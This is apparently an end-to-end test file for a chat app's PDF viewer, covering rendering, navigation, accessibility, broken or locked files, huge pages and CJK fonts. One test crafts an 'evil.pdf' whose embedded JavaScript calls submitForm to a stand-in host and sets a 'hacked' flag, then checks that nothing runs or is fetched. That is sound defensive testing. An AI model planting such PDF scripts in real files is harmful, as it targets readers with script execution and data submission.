import { beforeAll, beforeEach, expect, test } from 'vitest'
import { eventually } from './api'
import { checkThemes } from './axe'
import { crew } from './crew'
import { type Member, makeCrowd, makeWorkspace } from './crowd'
import { download, lightbox, sendFiles, shown } from './files'
import { LOCKED, pdf } from './pdf'
import { seat } from './seat'
import { product } from './shared-product'
import { t } from './texts'

const people = crew(['ada', 'grace'])

beforeAll(async () => {
  const members = (await makeCrowd(product, 2)) as [Member, Member]
  const made = await makeWorkspace(product, members, [{ name: 'papers', kind: 'private' }])
  const path = `/w/${made.slug}/c/${made.channelIds[0]}`
  await seat(people.ada, members[0], path)
  await seat(people.grace, members[1], path)
  await people.ada.composer('papers').waitFor()
  await people.grace.composer('papers').waitFor()
})
beforeEach(async () => {
  for (const person of [people.ada, people.grace]) await person.page.bringToFront()
})

const numbered = (name: string, count: number) =>
  pdf(
    name,
    Array.from({ length: count }, (_, index) => ({ text: `This is sheet ${index + 1}` })),
  )
const page = (number: number) =>
  people.grace.page.getByRole('article', { name: t('attachments.page', { page: number }), exact: true })
const drawn = (number: number) => page(number).and(people.grace.page.locator('[data-state="drawn"]'))
const canvas = (number: number) =>
  page(number)
    .locator('canvas')
    .evaluate((element) => {
      const { width, height } = element as HTMLCanvasElement
      const { data } =
        (element as HTMLCanvasElement).getContext('2d')?.getImageData(0, 0, width, height) ?? {}
      let blue = 0
      for (let at = 0; data && at < data.length; at += 4) if (data[at] === 0 && data[at + 2] === 255) blue++
      return { width, height, blue }
    })
const open = async (name: string) => {
  await shown(people.grace, name).click()
  await lightbox(people.grace, name).waitFor()
}
const close = async (name: string) => {
  await people.grace.page.keyboard.press('Escape')
  await lightbox(people.grace, name).waitFor({ state: 'detached' })
  await eventually('its thread has ended', async () => people.grace.page.workers().length === 0)
}

test('a PDF is read in its pages, and nothing of what shows it is loaded before', async () => {
  const { ada, grace } = people
  const loaded: string[] = []
  grace.page.on('request', (request) => loaded.push(request.url()))
  await sendFiles(ada, 'papers', 'Three sheets', numbered('sheets.pdf', 3))
  await shown(grace, 'sheets.pdf').waitFor()
  expect(loaded.filter((url) => /pdf\.worker/.test(url))).toEqual([])
  await shown(grace, 'sheets.pdf').focus()
  await grace.page.keyboard.press('Enter')
  const box = lightbox(grace, 'sheets.pdf')
  await drawn(1).waitFor()
  expect(loaded.filter((url) => /pdf\.worker/.test(url))).toHaveLength(1)
  expect(new URL(loaded.find((url) => /pdf\.worker/.test(url)) ?? '').origin).toBe(product.url)
  await page(1).getByText('This is sheet 1').waitFor()
  const before = await canvas(1)
  expect(before.blue).toBeGreaterThan(1_000)

  // Its text lies where it is drawn, and can be selected.
  const selected = await page(1)
    .getByText('This is sheet 1')
    .evaluate((words) => {
      getSelection()?.selectAllChildren(words)
      return String(getSelection())
    })
  expect(selected).toBe('This is sheet 1')
  const words = await page(1).getByText('This is sheet 1').boundingBox()
  const paper = await page(1).boundingBox()
  expect(((words?.x ?? 0) - (paper?.x ?? 0)) / (paper?.width ?? 1)).toBeCloseTo(50 / 595, 2)

  await box.getByText(t('attachments.count', { place: 1, count: 3 })).waitFor()
  await grace.page.keyboard.press('ArrowRight')
  await box.getByText(t('attachments.count', { place: 2, count: 3 })).waitFor()
  await drawn(2).waitFor()
  await grace.page.keyboard.press('Home')
  await box.getByText(t('attachments.count', { place: 1, count: 3 })).waitFor()
  await drawn(1).waitFor()
  await grace.page.keyboard.press('+')
  await eventually('the page is drawn larger', async () => (await canvas(1)).width > before.width)
  await grace.page.keyboard.press('0')
  await eventually('the page fits again', async () => (await canvas(1)).width === before.width)
  await box.getByRole('button', { name: t('attachments.nextPage') }).click()
  await box.getByText(t('attachments.count', { place: 2, count: 3 })).waitFor()
  await close('sheets.pdf')
  await eventually('the focus is back on the file', () =>
    shown(grace, 'sheets.pdf').evaluate((button) => button === document.activeElement),
  )
})

test('a PDF is accessible in both themes, on a phone and on a wide screen, also one that is not shown', async () => {
  const { ada, grace } = people
  await open('sheets.pdf')
  await drawn(1).waitFor()
  await checkThemes(grace)
  await close('sheets.pdf')
  await sendFiles(ada, 'papers', 'A secret', pdf('locked.pdf', [{ text: 'secret' }], { trailer: LOCKED }))
  await open('locked.pdf')
  await grace.page.getByText(t('attachments.pdf_locked')).waitFor()
  await checkThemes(grace)
  await close('locked.pdf')
})

test.each([
  ['no PDF at all', Buffer.from('Dear all,\nthis is no PDF.\n')],
  ['only a beginning', numbered('x', 2).buffer.subarray(0, 60)],
  ['nothing but zeros', Buffer.alloc(5_000)],
])('what is %s says so and can be downloaded', async (what, buffer) => {
  const { ada, grace } = people
  const name = `${what.replaceAll(' ', '-')}.pdf`
  await sendFiles(ada, 'papers', `This is ${what}`, { name, mimeType: 'application/pdf', buffer })
  await open(name)
  await lightbox(grace, name).getByText(t('attachments.pdf_broken')).waitFor()
  const saved = await download(grace.page, () =>
    lightbox(grace, name)
      .getByRole('button', { name: t('attachments.downloadFile'), exact: true })
      .click(),
  )
  expect(buffer.equals(saved.bytes)).toBe(true)
  await close(name)
})

test('a page of a hundred kilometres takes no more than a browser has', async () => {
  const { ada, grace } = people
  const sheets = [
    { text: 'Large', width: 14_000_000, height: 14_000_000 },
    { text: 'Long', width: 10, height: 10_000_000 },
    { text: 'Usual' },
  ]
  await sendFiles(ada, 'papers', 'Enormous', pdf('enormous.pdf', sheets))
  await open('enormous.pdf')
  for (const number of [1, 2, 3]) {
    await drawn(number).waitFor()
    const { width, height } = await canvas(number)
    expect(width * height).toBeLessThanOrEqual(16_100_000)
    await grace.page.keyboard.press('ArrowRight')
  }
  await close('enormous.pdf')
})

test('of five thousand pages only those in sight are there', async () => {
  const { ada, grace } = people
  await sendFiles(ada, 'papers', 'A book', numbered('book.pdf', 5_000))
  await open('book.pdf')
  await drawn(1).waitFor()
  await grace.page.keyboard.press('End')
  await lightbox(grace, 'book.pdf')
    .getByText(t('attachments.count', { place: 5_000, count: 5_000 }))
    .waitFor()
  await drawn(5_000).waitFor()
  await page(5_000).getByText('This is sheet 5000').waitFor()
  expect(await lightbox(grace, 'book.pdf').getByRole('article').count()).toBeLessThan(10)
  await close('book.pdf')
})

test('a script in a PDF does nothing, and nothing is fetched for it', async () => {
  const { ada, grace } = people
  const script = "app.alert('hello'); this.submitForm('https://example.test/'); globalThis.hacked = true"
  const evil = pdf('evil.pdf', [{ text: 'Harmless' }], {
    catalogue: `/OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >> /AA << /WC << /S /URI /URI (https://example.test/) >> >>`,
  })
  await sendFiles(ada, 'papers', 'Do not open', evil)
  const asked: string[] = []
  const dialogs: string[] = []
  grace.page.on('request', (request) => asked.push(new URL(request.url()).origin))
  grace.page.on('dialog', (dialog) => dialogs.push(dialog.message()))
  await open('evil.pdf')
  await drawn(1).waitFor()
  expect(await grace.page.evaluate(() => 'hacked' in globalThis)).toBe(false)
  const [thread] = grace.page.workers()
  expect(await thread?.evaluate(() => 'hacked' in globalThis)).toBe(false)
  await close('evil.pdf')
  expect(dialogs).toEqual([])
  expect([...new Set(asked)].filter((origin) => origin !== product.url && origin !== 'null')).toEqual([])
})

test('what a document leaves to whoever shows it is here: characters of Chinese, signs, the pictures of faxes', async () => {
  const { ada, grace } = people
  const objects = [
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [7 0 R] >>',
    `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /FontDescriptor 8 0 R
      /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> >>`,
    `<< /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0
      /Ascent 800 /Descent -200 /CapHeight 800 /StemV 80 >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>',
    // Sixty-four lines that are as the one before, which begins white; and white is drawn black.
    `<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0]
      /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 64 /Rows 64 >> /Length 14 >>
      stream\n${'\xff'.repeat(8)}\x00\x10\x01\x00\x10\x01\nendstream`,
  ]
  const content = `BT /C 24 Tf 50 700 Td <4F60597D> Tj ET BT /Z 24 Tf 50 600 Td (4) Tj ET q 200 0 0 200 50 300 cm /I Do Q`
  const resources = '/Font << /C 6 0 R /Z 9 0 R >> /XObject << /I 10 0 R >>'
  await sendFiles(ada, 'papers', 'From afar', pdf('afar.pdf', [{ content, resources }], { objects }))
  const answers: string[] = []
  grace.page.on('response', (response) => {
    answers.push(`${response.status()} ${new URL(response.url()).pathname.split('/').pop()?.split('.')[0]}`)
  })
  await open('afar.pdf')
  await drawn(1).waitFor()
  await page(1).getByText('你好').waitFor()
  expect(answers).toEqual(expect.arrayContaining(['200 UniGB-UCS2-H', '200 FoxitDingbats', '200 jbig2']))
  const black = await page(1)
    .locator('canvas')
    .evaluate((element) => {
      const { width, height } = element as HTMLCanvasElement
      const { data } =
        (element as HTMLCanvasElement).getContext('2d')?.getImageData(0, 0, width, height) ?? {}
      return [...(data ?? [])].filter((value, at) => at % 4 === 0 && value === 0).length / (width * height)
    })
  // The picture's share of the page.
  expect(black).toBeGreaterThan((200 * 200) / (595 * 842) - 0.01)
  await close('afar.pdf')
})
